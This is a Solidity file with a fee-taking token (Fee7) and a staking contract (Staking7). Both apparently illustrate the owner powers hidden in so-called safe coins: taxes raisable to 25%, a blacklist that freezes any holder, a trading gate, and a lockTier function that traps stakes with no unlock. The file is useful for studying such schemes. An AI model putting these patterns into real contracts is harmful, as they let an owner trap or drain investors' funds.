// SPDX-License-Identifier: Apache-2.0 OR MIT
pragma solidity ^0.7.0;

/// What is traded as a "safe" coin: taxes, limits, exceptions and a gate, all in one owner's hand.
contract Fee7 {
    string public name = "Fee Seven";
    string public symbol = "FEE7";
    uint8 public constant decimals = 9;
    uint256 public totalSupply = 1e15;
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) public isExcludedFromFee;
    mapping(address => bool) public bots;
    address private _owner;
    address payable public marketingWallet;
    uint16 public buyTax = 300;
    uint16 public sellTax = 500;
    bool public tradingOpen;
    uint256 public _maxTxAmount = 1e13;
    address public pair;

    modifier onlyOwner() { require(_owner == msg.sender, "Ownable: caller is not the owner"); _; }

    constructor(address payable wallet) { _owner = msg.sender; marketingWallet = wallet; _balances[msg.sender] = totalSupply; }

    receive() external payable {}

    function owner() public view returns (address) { return _owner; }
    function balanceOf(address account) public view returns (uint256) { return _balances[account]; }
    function allowance(address from, address spender) public view returns (uint256) { return _allowances[from][spender]; }
    function approve(address spender, uint256 value) public returns (bool) { _allowances[msg.sender][spender] = value; return true; }
    function transfer(address to, uint256 value) public returns (bool) { _move(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        require(_allowances[from][msg.sender] >= value);
        _allowances[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function renounceOwnership() external onlyOwner { _owner = address(0); }
    function openTrading(address at) external onlyOwner { tradingOpen = true; pair = at; }
    function setTaxes(uint256 buy, uint256 sell) external onlyOwner { require(buy <= 2500 && sell <= 2500); buyTax = uint16(buy); sellTax = uint16(sell); }
    function setMaxTxAmount(uint256 value) external onlyOwner { _maxTxAmount = value; }
    function setMarketingWallet(address payable wallet) external onlyOwner { marketingWallet = wallet; }
    function excludeFromFee(address account) external onlyOwner { isExcludedFromFee[account] = true; }
    function includeInFee(address account) external onlyOwner { isExcludedFromFee[account] = false; }
    function setBots(address[] calldata all) external onlyOwner { for (uint256 i; i < all.length; i++) bots[all[i]] = true; }
    function delBot(address account) external onlyOwner { bots[account] = false; }
    function manualSend() external { require(msg.sender == marketingWallet); marketingWallet.transfer(address(this).balance); }

    function _move(address from, address to, uint256 value) private {
        require(!bots[from] && !bots[to], "bot");
        if (from != _owner && to != _owner) {
            require(tradingOpen, "closed");
            require(value <= _maxTxAmount, "too much");
        }
        uint256 tax;
        if (!isExcludedFromFee[from] && !isExcludedFromFee[to]) tax = value * (to == pair ? sellTax : buyTax) / 10000;
        require(_balances[from] >= value);
        _balances[from] -= value;
        _balances[to] += value - tax;
        _balances[address(this)] += tax;
    }
}

/// Stakes and rewards, whose distributor is somebody else than its owner.
contract Staking7 {
    struct Stake { uint128 amount; uint64 since; uint32 tier; bool locked; }

    address public owner;
    address public nominatedOwner;
    address public rewardsDistribution;
    bool public paused;
    uint64 public periodFinish;
    uint256 public rewardRate;
    uint256 public totalStaked;
    mapping(address => Stake) public stakes;
    mapping(address => uint256) public rewards;

    modifier onlyOwner() { require(msg.sender == owner, "owner"); _; }
    modifier onlyDistribution() { require(msg.sender == rewardsDistribution, "distribution"); _; }

    constructor() { owner = msg.sender; rewardsDistribution = msg.sender; }

    function stake() external payable {
        require(!paused);
        Stake storage mine = stakes[msg.sender];
        mine.amount += uint128(msg.value);
        mine.since = uint64(block.timestamp);
        totalStaked += msg.value;
    }
    function unstake(uint256 amount) external {
        Stake storage mine = stakes[msg.sender];
        require(!mine.locked && mine.amount >= amount);
        mine.amount -= uint128(amount);
        totalStaked -= amount;
        msg.sender.transfer(amount);
    }
    function earned(address account) public view returns (uint256) { return rewards[account] + uint256(stakes[account].amount) * rewardRate * (block.timestamp - stakes[account].since); }
    function notifyRewardAmount(uint256 reward) external onlyDistribution { rewardRate = reward; periodFinish = uint64(block.timestamp + 7 days); }
    function lockTier(address account, uint32 tier) external onlyOwner { stakes[account].locked = true; stakes[account].tier = tier; }
    function setPaused(bool value) external onlyOwner { paused = value; }
    function setRewardsDistribution(address next) external onlyOwner { rewardsDistribution = next; }
    function nominateNewOwner(address next) external onlyOwner { nominatedOwner = next; }
    function acceptOwnership() external { require(msg.sender == nominatedOwner); owner = nominatedOwner; nominatedOwner = address(0); }
}
